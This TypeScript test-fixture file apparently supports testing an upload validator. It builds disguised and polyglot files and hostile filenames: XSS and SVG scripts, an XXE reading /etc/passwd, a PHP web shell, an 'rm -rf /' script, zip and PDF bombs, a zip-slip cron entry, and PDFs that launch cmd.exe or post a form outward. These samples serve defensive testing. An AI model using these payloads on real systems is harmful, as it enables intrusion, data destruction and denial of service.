import { crc32, deflateSync, gzipSync } from 'node:zlib';
import { strToU8, zipSync } from 'fflate';
import { sampleJpeg, samplePdf } from 'infra-testing/files';

/** The antivirus industry's own test content, in two halves so that this file is none. */
export const EICAR = `X5O!P%@AP[4\\PZX54(P^)7CC)7}$${'EICAR'}-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*`;

const SCRIPT = '<script>alert(document.domain)</script>';
const HTML = `<!doctype html><html><body>${SCRIPT}</body></html>`;
const SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>';
const bytes = (hex: string, rest = '') => Buffer.concat([Buffer.from(hex, 'hex'), Buffer.from(rest)]);
const nul = (size: number) => Buffer.alloc(size);

const zipBomb = (): Uint8Array => {
  const inner = zipSync({ 'vacio.bin': new Uint8Array(20 * 1024 * 1024) }, { level: 9 });
  return zipSync(Object.fromEntries(Array.from({ length: 50 }, (_, index) => [`${index}.zip`, inner])));
};

/** A PNG that announces these dimensions and carries hardly anything. */
export function pngOf(width: number, height: number, ...chunks: Buffer[]): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([1, 0, 0, 0, 0], 8);
  return Buffer.concat([
    bytes('89504e470d0a1a0a'),
    pngChunk('IHDR', header),
    ...chunks,
    pngChunk('IDAT', deflateSync(nul(64))),
    pngChunk('IEND', nul(0)),
  ]);
}

/** A PDF of some kilobytes whose page names a stream of so many megabytes of drawing commands, and that so many times. */
export function pdfBomb(megabytes: number, command: string, times = 1): Buffer {
  const commands = deflateSync(Buffer.alloc(megabytes * 1024 * 1024, command));
  return Buffer.concat([
    Buffer.from(
      '%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n' +
        '3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents ' +
        `[${'4 0 R '.repeat(times)}]>>endobj\n4 0 obj<</Filter/FlateDecode/Length ${commands.length}>>stream\n`,
    ),
    commands,
    Buffer.from('\nendstream endobj\ntrailer<</Root 1 0 R>>\n%%EOF'),
  ]);
}

function pngChunk(type: string, content: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(content.length);
  const typed = Buffer.concat([Buffer.from(type), content]);
  const checksum = Buffer.alloc(4);
  checksum.writeUInt32BE(crc32(typed));
  return Buffer.concat([length, typed, checksum]);
}

/** A PDF of one empty page with this in its catalogue. */
const pdfWith = (catalogue: string) =>
  Buffer.from(
    `%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R ${catalogue}>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF`,
  );

/** Files that pretend to be a document and are none: name, content. */
export const DISGUISES: readonly (readonly [what: string, name: string, content: Uint8Array])[] = [
  ['a page called PDF', 'acta.pdf', Buffer.from(HTML)],
  ['a page in UTF-16', 'acta.pdf', Buffer.from(`\uFEFF${HTML}`, 'utf16le')],
  ['an HTML application', 'acta.hta', Buffer.from(`<hta:application>${SCRIPT}`)],
  [
    'a mail with a page (MHTML)',
    'acta.jpg',
    Buffer.from(`MIME-Version: 1.0\nContent-Type: text/html\n\n${HTML}`),
  ],
  ['an SVG called PNG', 'logo.png', Buffer.from(SVG)],
  ['an SVG by its own name', 'logo.svg', Buffer.from(`<?xml version="1.0"?>${SVG}`)],
  ['an SVG behind a mark of byte order', 'logo.jpg', Buffer.from(`\uFEFF<?xml version="1.0"?>${SVG}`)],
  [
    'XML that reads a file',
    'datos.pdf',
    Buffer.from('<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'),
  ],
  ['a script called JPG', 'foto.jpg', Buffer.from('alert(document.cookie)//')],
  ['a program in PHP', 'foto.php.jpg', Buffer.from('<?php system($_GET["c"]); ?>')],
  ['a shell script', 'acta.pdf', Buffer.from('#!/bin/sh\nrm -rf /\n')],
  ['a program for Linux', 'acta.pdf', bytes('7f454c46020101000000000000000000', 'x'.repeat(100))],
  ['a program for Windows', 'acta.pdf.exe', bytes('4d5a9000', 'x'.repeat(200))],
  ['a program for the browser', 'acta.pdf', bytes('0061736d01000000')],
  ['a shortcut of Windows', 'acta.pdf.lnk', bytes('4c0000000114020000000000c000000000000046')],
  [
    'an address file',
    'acta.pdf.url',
    Buffer.from('[InternetShortcut]\nURL=file:///c:/windows/system32/calc.exe'),
  ],
  ['an archive that unpacks to a gigabyte', 'planos.zip', zipBomb()],
  ['a stream that unpacks to 50 MB', 'planos.pdf', gzipSync(nul(50 * 1024 * 1024))],
  [
    'an archive with paths that climb',
    'acta.pdf',
    zipSync({ '../../etc/cron.d/x': strToU8('* * * * * root id') }),
  ],
  [
    'a word-processor file with macros',
    'nota.docm',
    zipSync({
      '[Content_Types].xml': strToU8('<Types/>'),
      'word/vbaProject.bin': strToU8('Attribute VB_Name'),
    }),
  ],
  ['an old word-processor file', 'nota.doc', bytes('d0cf11e0a1b11ae1', 'x'.repeat(600))],
  [
    'a text with an object inside (RTF)',
    'nota.rtf',
    Buffer.from('{\\rtf1{\\object\\objocx{\\*\\objdata 0105}}}'),
  ],
  ['a Java archive', 'acta.jar', zipSync({ 'META-INF/MANIFEST.MF': strToU8('Main-Class: X') })],
  ['a GIF that is a script', 'foto.png', Buffer.from('GIF89a=1;alert(1)//')],
  ['a WebP', 'foto.webp', bytes('524946461a000000574542505650384c', 'x'.repeat(20))],
  ['a bitmap', 'foto.jpg', bytes('424d46000000', 'x'.repeat(60))],
  ['PostScript', 'plano.pdf', Buffer.from('%!PS-Adobe-3.0\n(/etc/passwd) (r) file\n')],
  ['a film', 'foto.jpg', bytes('0000001866747970', 'mp42\0\0\0\0mp42isom')],
  ['the antivirus test content', 'eicar.pdf', Buffer.from(EICAR)],
  ['a letter', 'acta.pdf', Buffer.from('%')],
  ['nothing but zeros', 'acta.pdf', nul(5_000)],
];

/** Right documents that are also something else, or carry something that runs elsewhere: kept, and never run here. */
export const POLYGLOTS: readonly (readonly [
  what: string,
  content: () => Uint8Array | Promise<Uint8Array>,
])[] = [
  ['a PDF that is also a page', async () => Buffer.concat([await samplePdf(), Buffer.from(HTML)])],
  ['a PDF whose first line is a page', () => Buffer.concat([Buffer.from(`%PDF-1.4 ${HTML}\n`), pdfWith('')])],
  ['a PDF that runs a script when opened', () => pdfWith('/OpenAction<</S/JavaScript/JS(app.alert(1))>>')],
  ['a PDF that starts a program', () => pdfWith('/OpenAction<</S/Launch/F(cmd.exe)>>')],
  ['a PDF that sends a form', () => pdfWith('/OpenAction<</S/SubmitForm/F(http://x.example/)>>')],
  ['a PDF with a file inside', () => pdfWith('/Names<</EmbeddedFiles<</Names[(a.exe)4 0 R]>>>>')],
  ['a PDF titled with a script', () => pdfWith(`/Title(${SCRIPT})`)],
  [
    'a PDF that is also an archive',
    async () => Buffer.concat([await samplePdf(), zipSync({ 'a.js': strToU8('1') })]),
  ],
  ['a JPEG followed by a page', () => Buffer.concat([sampleJpeg(), Buffer.from(HTML)])],
  ['a JPEG followed by a program in PHP', () => Buffer.concat([sampleJpeg(), Buffer.from('<?php id(); ?>')])],
  ['a PNG with a script in its text', () => pngOf(1, 1, pngChunk('tEXt', Buffer.from(`Comment\0${SCRIPT}`)))],
  [
    'a PNG followed by an archive',
    () => Buffer.concat([pngOf(1, 1), Buffer.from(zipSync({ 'a.js': strToU8('1') }))]),
  ],
];

/** Names that mean something to a file system, a header, a shell or a reader’s eye. */
export const NAMES: readonly string[] = [
  '../../../../etc/passwd',
  '..\\..\\..\\windows\\system32\\drivers\\etc\\hosts',
  '/etc/cron.d/portal.pdf',
  'C:\\boot.ini',
  '%2e%2e%2f%2e%2e%2fsecreto.pdf',
  'acta\0.pdf.exe',
  'acta.pdf\r\nSet-Cookie: a=b',
  '"; filename="otro.html',
  'acta\u202Efdp.exe',
  `${'a'.repeat(5_000)}.pdf`,
  '...',
  '.htaccess',
  'CON.pdf',
  '<img src=x onerror=alert(1)>.pdf',
  '$(reboot).pdf',
  '💣ñandú\uFFFF.pdf',
];
